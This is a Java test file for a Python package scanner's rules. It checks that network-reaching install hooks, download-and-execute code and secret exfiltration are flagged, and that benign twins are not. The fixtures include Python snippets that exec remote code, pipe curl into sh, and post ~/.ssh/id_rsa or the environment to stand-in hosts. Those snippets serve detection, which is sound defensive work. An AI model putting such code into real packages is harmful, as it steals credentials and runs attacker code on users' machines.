package dev.sluice.inspection;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * The rules that read Python's structure (install hooks, download-and-run, exfiltration), each on the pattern with a
 * harmless payload (reserved addresses, example domains, code that prints) and on its clean twin.
 */
class CodeRulesTest {
    private static List<Finding> inspect(ContentRule rule, String file, String text) {
        List<Finding> found = new ArrayList<>();
        rule.inspect(new InspectedFile(file, text.getBytes(StandardCharsets.UTF_8), file.endsWith("setup.py")), found::add);
        return found;
    }

    private static final String SETUP_HEAD = "from setuptools import setup\nfrom setuptools.command.install import install\n";

    @Test
    void installCommandsThatReachTheNetworkAreMalicious() {
        String hostile = SETUP_HEAD + """
                import urllib.request

                class PostInstall(install):
                    def run(self):
                        install.run(self)
                        urllib.request.urlopen('http://192.0.2.1/hello')

                setup(name='demo', cmdclass={'install': PostInstall})
                """;
        assertThat(inspect(new InstallHook(), "demo-1.0/setup.py", hostile)).singleElement().satisfies(f -> {
            assertThat(f.rule()).isEqualTo("install-hook");
            assertThat(f.severity()).isEqualTo(Finding.Severity.MALICIOUS);
            assertThat(f.line()).isEqualTo(8);
            assertThat(f.excerpt()).contains("PostInstall", "urllib.request.urlopen");
        });
        String process = SETUP_HEAD + """
                import subprocess as sp
                class Develop(install):
                    def run(self):
                        sp.call(['echo', 'hello'])
                setup(name='demo')
                """;
        assertThat(inspect(new InstallHook(), "demo-1.0/setup.py", process)).singleElement()
                .satisfies(f -> assertThat(f.severity()).isEqualTo(Finding.Severity.SUSPICIOUS));
        assertThat(inspect(new InstallHook(), "demo-1.0/setup.py", SETUP_HEAD + "import requests\n"
                + "requests.get('https://example.com/ping')\nsetup(name='demo')\n")).singleElement().satisfies(f -> {
                    assertThat(f.severity()).isEqualTo(Finding.Severity.SUSPICIOUS);
                    assertThat(f.line()).isEqualTo(4);
                });
        // the clean twins: an override that only installs, a build step compiling, git asked for the version
        List<Finding> quiet = inspect(new InstallHook(), "demo-1.0/setup.py", SETUP_HEAD + """
                import subprocess
                from setuptools.command.build_ext import build_ext
                VERSION = subprocess.check_output(['git', 'describe']).decode().strip()
                class Quiet(install):
                    def run(self):
                        install.run(self)
                class CMakeBuild(build_ext):
                    def run(self):
                        subprocess.check_call(['cmake', '..'])
                setup(name='demo', version=VERSION)
                """);
        assertThat(quiet).allSatisfy(f -> assertThat(f.severity()).isEqualTo(Finding.Severity.NOTE)).hasSize(2);
        assertThat(inspect(new InstallHook(), "demo-1.0/docs/setup.py", hostile)).as("not the setup.py pip runs").isEmpty();
        assertThat(inspect(new InstallHook(), "demo-1.0/setup.py", "# urllib.request.urlopen('x') in a comment\n"
                + "'''class X(install): urlopen()'''\n")).isEmpty();
    }

    @Test
    void whatIsDownloadedAndRunIsMalicious() {
        DownloadExecute rule = new DownloadExecute();
        for (String code : List.of(
                "from urllib.request import urlopen\nexec(urlopen('http://192.0.2.7/stage2').read())\n",
                "import requests\ndef go():\n    r = requests.get('https://example.com/x')\n    code = r.text\n    eval(compile(code, 'x', 'exec'))\n",
                "import urllib.request, subprocess\nwith urllib.request.urlopen('http://192.0.2.7/x') as r:\n    body = r.read()\n"
                        + "subprocess.run(['python3', '-c', body])\n",
                "import urllib.request, os\nurllib.request.urlretrieve('http://192.0.2.7/tool', '/tmp/tool')\nos.system('/tmp/tool')\n",
                "import requests, subprocess\ndata = requests.get('https://example.com/t').content\n"
                        + "with open(path, 'wb') as f:\n    f.write(data)\nsubprocess.Popen([path])\n",
                "import os\nos.system('curl -s https://example.com/i.sh | sh')\n")) {
            assertThat(inspect(rule, "demo/__init__.py", code)).as(code).singleElement().satisfies(f -> {
                assertThat(f.rule()).isEqualTo("download-exec");
                assertThat(f.severity()).isEqualTo(Finding.Severity.MALICIOUS);
            });
        }
        // the clean twins: fetching and running in different functions, data parsed not run, a file read not fetched
        for (String code : List.of(
                "import requests, subprocess\ndef fetch():\n    return requests.get('https://example.com').json()\n"
                        + "def build():\n    subprocess.run(['make'])\n",
                "import json, urllib.request\nwith urllib.request.urlopen(u) as r:\n    data = json.load(r)\nexec(open('v.py').read())\n",
                "import os\nos.system('curl -s https://example.com/i.sh -o i.sh')\n")) {
            assertThat(inspect(rule, "demo/__init__.py", code)).as(code).isEmpty();
        }
    }

    @Test
    void secretsSentOverTheNetworkAreExfiltration() {
        Exfiltration rule = new Exfiltration();
        String keys = """
                import os, requests
                def collect():
                    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
                    requests.post('https://example.com/c', data=key)
                """;
        assertThat(inspect(rule, "demo/__init__.py", keys)).singleElement().satisfies(f -> {
            assertThat(f.rule()).isEqualTo("exfiltration");
            assertThat(f.severity()).isEqualTo(Finding.Severity.MALICIOUS);
            assertThat(f.line()).isEqualTo(4);
            assertThat(f.excerpt()).startsWith("reads '~/.ssh/id_rsa' and calls requests.post");
        });
        assertThat(inspect(rule, "demo/x.py", "import os, socket\nhome = os.path.join(os.path.expanduser('~'), '.aws')\n"
                + "s = socket.create_connection(('192.0.2.9', 443))\n")).singleElement()
                .satisfies(f -> assertThat(f.severity()).isEqualTo(Finding.Severity.MALICIOUS));
        assertThat(inspect(rule, "demo/x.py", "import os, json\nfrom urllib.request import urlopen, Request\n"
                + "urlopen(Request('https://example.com', json.dumps(dict(os.environ)).encode()))\n")).singleElement()
                .satisfies(f -> {
                    assertThat(f.severity()).isEqualTo(Finding.Severity.SUSPICIOUS);
                    assertThat(f.excerpt()).startsWith("takes the whole environment (line 3)");
                });
        // the clean twins: one variable read, the environment handed to a child, keys read where nothing is sent
        assertThat(inspect(rule, "demo/x.py", "import os, requests\ntoken = os.environ.get('TOKEN')\n"
                + "requests.get('https://example.com', headers={'a': os.environ['B']})\n")).isEmpty();
        assertThat(inspect(rule, "demo/x.py", "import os, subprocess, requests\nsubprocess.run(['x'], env=os.environ)\n"
                + "def f():\n    requests.get('https://example.com')\n")).isEmpty();
        assertThat(inspect(rule, "demo/x.py", "import os, requests\ndef load():\n    return open(os.path.expanduser('~/.ssh/config')).read()\n"
                + "def ping():\n    requests.get('https://example.com')\n")).isEmpty();
    }

    @Test
    void theTokenizerReadsWhatPythonReads() {
        List<PythonTokens.Token> tokens = PythonTokens.of("x = f(a,\n  b)  # c\ns = rb'''one\ntwo''' + \"\\\"q\"\nif x:\n    y = 1\n");
        assertThat(tokens.stream().map(t -> t.kind() == PythonTokens.Kind.NAME || t.kind() == PythonTokens.Kind.OP
                || t.kind() == PythonTokens.Kind.NUMBER ? t.text() : t.kind().name()).toList())
                .containsExactly("x", "=", "f", "(", "a", ",", "b", ")", "NEWLINE", "s", "=", "STRING", "+", "STRING", "NEWLINE",
                        "if", "x", ":", "NEWLINE", "INDENT", "y", "=", "1", "NEWLINE", "DEDENT");
        assertThat(tokens.get(11).value()).isEqualTo("one\ntwo");
        assertThat(tokens.get(13).value()).isEqualTo("\"q");
        assertThat(tokens.get(15).line()).isEqualTo(5);
        PythonModule module = PythonModule.parse("import subprocess as sp\nclass A(base.Install):\n    def run(self):\n"
                + "        sp.run(['x'])\nsp.call(y)\n");
        List<PythonModule.Statement> statements = module.statements();
        assertThat(module.calls(statements.get(3))).singleElement().satisfies(c -> assertThat(c.name()).isEqualTo("subprocess.run"));
        assertThat(statements.get(3).scope().kind()).isEqualTo(PythonModule.ScopeKind.FUNCTION);
        assertThat(statements.get(3).scope().parent().bases()).containsExactly("base.Install");
        assertThat(statements.get(4).scope().kind()).isEqualTo(PythonModule.ScopeKind.MODULE);
    }
}
